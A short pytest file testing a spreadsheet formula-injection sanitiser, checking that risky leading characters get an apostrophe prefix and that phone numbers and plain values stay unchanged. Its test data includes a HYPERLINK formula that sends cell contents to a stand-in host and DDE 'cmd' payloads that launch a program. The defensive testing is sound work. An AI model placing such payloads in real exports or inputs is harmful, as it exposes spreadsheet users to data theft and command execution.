"""What a spreadsheet would reckon is written as a text, and nothing else is touched."""

import pytest

from participation_app.rules.formulas import neutralised


@pytest.mark.parametrize(
	"text",
	[
		'=HYPERLINK("http://x/?"&A1,"click")',
		"=1+1",
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|'!A1",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"＝1+1",
		"＋1+1",
		"－1+1",
		"＠SUM(A1)",
		"+1-800-call",
	],
)
def test_what_begins_like_a_formula_is_shown_as_it_was_written(text):
	assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize("value", ["", "حفرة", "a=b", "-5", "+971 50 123 4567", "-1,250.50", 7, None, True])
def test_words_numbers_and_telephone_numbers_stay_as_they_are(value):
	assert neutralised(value) is value
